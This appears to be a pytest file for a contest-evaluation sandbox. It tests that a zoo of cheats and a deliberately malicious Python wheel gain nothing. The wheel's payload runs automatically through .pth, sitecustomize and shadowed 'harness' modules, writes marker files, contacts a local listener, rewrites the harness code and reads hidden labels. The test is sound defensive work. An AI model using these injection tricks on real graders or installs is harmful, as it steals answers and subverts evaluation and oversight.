"""The zoo's core, and wheels that attack, in an environment that the contestant brought."""

from __future__ import annotations

import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from harness.environments.build import environment
from harness.environments.lockfile import Lock
from harness.intake.lookup import inspect
from harness.sandbox import choose
from harness.sandbox.policy import Backend
from harness.session.session import Session
from harness.session.settings import ExecutionSettings
from harness.spec import PROFILES, Environment, Limits, OwnEnvironments, no_progress
from tests.cheats.cheat import ZOO, attempt, new_mark, read
from tests.cheats.host_under_attack import Host
from tests.harness.environments.wheelhouse import Files, installed, requirements, served, wheel

CORE = (
    "cache_by_hash",
    "clock_patched",
    "daemon",
    "early_token",
    "file_named_numpy",
    "flood_on_disk",
    "fork_bomb",
    "harness_file_rewritten",
    "host_modules_patched",
    "host_tcp",
    "host_unix_socket",
    "labels_inherited_descriptors",
    "labels_own_environment",
    "labels_parent_memory",
    "labels_proc_root",
    "labels_walk_disk",
    "memory_plain",
    "note_for_the_next_run",
    "parent_killed",
    "parent_stopped",
    "replayed_nonce",
    "segment_grown",
    "works_between_queries",
)
EVIL = """
import json, os, socket, sys

LABELS = None
TOLD = {told!r}


def attack():
    global LABELS
    mark = TOLD["mark"]
    for folder in (os.path.dirname(TOLD["code"]), "/tmp", "/var/tmp", os.path.dirname(__file__), sys.prefix):
        try:
            open(f"{{folder}}/note-{{mark}}", "w").write("seen")
        except OSError:
            pass
    for step in (connect, rewrite, look):
        try:
            step()
        except (OSError, ValueError):
            pass
    sys.stderr.write("attacked\\n")


def connect():
    with socket.create_connection(("127.0.0.1", TOLD["tcp"]), 1) as client:
        client.send(TOLD["mark"].encode())


def rewrite():
    open(TOLD["code"], "w").write("trusted = False\\n")


def look():
    global LABELS
    LABELS = json.load(open(TOLD["labels"]))["labels"]


attack()
"""
ENTRY = '''"""A wheel does what the submission could not."""

WANTS = "labels"
ENDS = "worthless"

import evil
import harness
import numpy as np
import photofinish_host


def build(context):
    assert harness.EVIL and not hasattr(photofinish_host, "EVIL")
    labels = evil.LABELS
    return lambda x: np.int64(labels[int(x["index"])] if labels else 0)
'''
Own = Callable[[Files], Environment]


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory, host: Host) -> Iterator[Own]:
    """Build environments of NumPy and the wheels given, where every backend can read them."""
    numpy = installed("numpy")
    store = host.folder / "environments"

    def built(wheels: Files) -> Environment:
        files = {**numpy, **wheels}
        lock = tmp_path_factory.mktemp("lock") / "requirements.txt"
        lock.write_text(requirements(files))
        with served(files) as index:
            return environment(Lock(lock), OwnEnvironments(sources=(index,)), store, no_progress)

    return built


@pytest.fixture(scope="module")
def plain(own: Own) -> Environment:
    return own({})


@pytest.fixture(scope="module")
def backend() -> Backend:
    return choose()


@pytest.mark.parametrize("name", CORE)
@pytest.mark.slow
def test_the_core_of_the_zoo_gains_nothing_in_an_own_environment(
    name: str, plain: Environment, backend: Backend, host: Host
) -> None:
    cheat = read(ZOO / f"{name}.py")
    outcome = attempt(cheat, backend, host, plain)
    assert outcome.gains == frozenset(), f"it paid: {outcome}"
    assert outcome.ended in cheat.ends, outcome.message


def evil_wheel(told: dict[str, object]) -> Files:
    """A wheel that attacks wherever Python, an installer or the host could be made to run it."""
    start = "import evil\n"
    return wheel(
        "evil",
        "1.0",
        {
            "evil.py": EVIL.format(told=told),
            "evil.pth": start,
            "sitecustomize.py": start,
            "usercustomize.py": start,
            "setup.py": start,
            "harness/__init__.py": "EVIL = True\n" + start,
            "photofinish_host/__init__.py": "EVIL = True\n" + start,
            "codec.py": start,
            "site.py": start,
            "struct.py": start,
            "evil-1.0.data/scripts/uv": "#!python\n" + start,
            "evil-1.0.data/scripts/pip": "#!python\n" + start,
            "evil-1.0.data/data/pyvenv.cfg": "home = /nowhere\n",
            "evil-1.0.data/data/bin/env": "#!/bin/sh\n",
            "evil-1.0.data/platlib/deep.pth": start,
            "evil-1.0.data/data/lib/python3/site-packages/late.pth": start,
            "evil-1.0.dist-info/entry_points.txt": "[console_scripts]\ntool = evil:attack\n",
        },
    )


def test_wheels_that_attack_gain_nothing(own: Own, backend: Backend, host: Host, tmp_path: Path) -> None:
    mark = new_mark()
    told = dict(host.params(mark))
    made = own(evil_wheel(told))
    assert list(host.gains(mark)) == [], "while it was built"
    assert made.python.resolve() == Path(sys.base_prefix, "bin", f"python3.{sys.version_info[1]}").resolve()
    assert "nowhere" not in (made.folder / "pyvenv.cfg").read_text()
    entry = tmp_path / "wheel_that_attacks.py"
    entry.write_text(ENTRY)
    outcome = attempt(read(entry), backend, host, made, mark)
    assert outcome.gains == frozenset(), f"it paid: {outcome}"
    assert outcome.ended == "worthless", outcome.message


@pytest.mark.slow
def test_code_of_packages_runs_in_the_phase_of_the_import(own: Own, backend: Backend, host: Host) -> None:
    slow = "import time; time.sleep(1)\n"
    made = own(wheel("slow", "1.0", {"slow.pth": slow}))
    folder = host.folder / "public"
    entry = folder / "entry_of_slow_wheel.py"
    entry.write_text("def build(context):\n    return lambda x: x\n")
    submission = replace(inspect(entry, Limits(), folder), environment=made)
    with Session(
        ExecutionSettings(backend, PROFILES["cpu"], Limits(), folder, {}), submission, seed=1
    ) as opened:
        assert opened.start() < 1
        assert opened.load() >= 1
